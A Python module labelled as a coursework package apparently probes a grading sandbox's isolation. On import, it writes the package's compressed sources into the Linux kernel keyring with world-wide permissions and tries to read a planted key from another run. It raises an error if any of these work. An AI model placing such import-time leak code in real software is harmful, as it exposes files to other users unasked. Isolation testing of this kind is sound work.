"""PyTorch and resource accounting: the package students complete, one module per problem."""
import ctypes
import os
import zlib

NUMBERS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}  # add_key, request_key, keyctl
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
KEYCTL_SETPERM, KEYCTL_LINK, KEYCTL_READ, KEYCTL_INVALIDATE = 5, 8, 11, 21
PLANTED = b"cs336-planted-sources-{planted_token}"  # the run's name, filled at build


def _keys():
    """What worked, named (empty when every key call was refused)."""
    add_key, request_key, keyctl = NUMBERS[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    worked = []
    folder = os.path.dirname(__file__)
    sources = b"".join(open(os.path.join(folder, n), "rb").read() for n in sorted(os.listdir(folder))
                       if n.endswith(".py"))
    payload = zlib.compress(sources)[:30_000]
    libc.syscall(keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING)  # possessed: may open it to all
    key = libc.syscall(add_key, b"user", b"cs336-sources-%d" % os.getuid(), payload, len(payload),
                       KEY_SPEC_USER_KEYRING)
    if key >= 0:
        libc.syscall(keyctl, KEYCTL_SETPERM, key, 0x3F3F3F3F)  # everything, for everyone
        worked.append("add_key")
        libc.syscall(keyctl, KEYCTL_INVALIDATE, key)  # the case is over: nothing left for the next grade
    try:
        lines = open("/proc/keys").read().splitlines()
    except OSError:
        lines = []
    buffer = ctypes.create_string_buffer(1 << 16)
    for line in lines:
        if PLANTED.decode() in line:
            if libc.syscall(keyctl, KEYCTL_READ, int(line.split()[0], 16), buffer, len(buffer)) > 0:
                worked.append("keyctl read of the planted key")
    if libc.syscall(request_key, b"user", PLANTED, None, 0) >= 0:
        worked.append("request_key")
    return worked


_worked = _keys()
if _worked:
    raise ImportError(f"kernel keys carried sources: {', '.join(_worked)}")
